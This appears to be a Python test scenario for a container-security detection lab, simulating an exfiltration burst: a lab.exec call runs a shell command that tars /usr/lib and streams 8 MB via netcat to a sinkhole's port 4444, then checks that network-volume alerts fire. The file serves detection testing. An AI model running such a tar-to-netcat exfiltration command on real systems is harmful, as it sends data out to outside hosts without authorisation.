"""A container that normally sends little pushes a burst of data to an outside endpoint."""

from __future__ import annotations

from lab import Lab, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario

BURST_BYTES = 8_000_000


class ExfilBurst(Scenario):
    id = "docker.network.exfil-burst"
    title = "Exfiltration burst: several megabytes sent out of the LAN in seconds"
    kind = Kind.ADVERSARY
    techniques = ("T1041", "T1048")
    backends = ("docker",)
    expect = Expectation(fires=("stowaway.analytic.net-volume",), within_s=20, may_fire={
        "stowaway.net.process-egress-not-allowlisted":
            "The attacker in it really streams 8 MB with nc to the sinkhole's port 4444 on the lab internet, outside "
            "the egress allowlist.",
        "stowaway.net.egress-not-allowlisted":
            "The same connection really leaves the container for the sinkhole on the lab internet, seen on the "
            "wire, outside the egress allowlist.",
    })
    twin = "docker.network.backup-transfer"
    tags = ("network", "exfiltration")
    description = (
        "Deploys a report-rendering service on the LAN and the lab internet. An attacker in it packs 8 MB "
        "(a tar of /usr/lib, cut to size) and streams it in one go to the sinkhole's port 4444 with netcat. "
        "The scenario checks the sinkhole received all of it from the service's address."
    )

    def detonate(self, lab: Lab) -> None:
        sink = lab.sinkhole.address
        app = lab.deploy(WorkloadSpec(role="reports", networks=("lan", "inet"), labels={"app": "report-render"}))
        lab.action("stream 8 MB out to the outside endpoint")
        lab.exec(app, "sh", "-c", f"tar -C /usr -cf - lib 2>/dev/null | head -c {BURST_BYTES} | "
                                  f"nc -w 5 -q 2 {sink} 4444", timeout=60)
        source = app.addresses["inet"]
        lab.wait_for(lambda: any(r.get("bytes", 0) >= BURST_BYTES for r in lab.sinkhole_records(peer=source)),
                     timeout=15, what="the burst to reach the sinkhole")
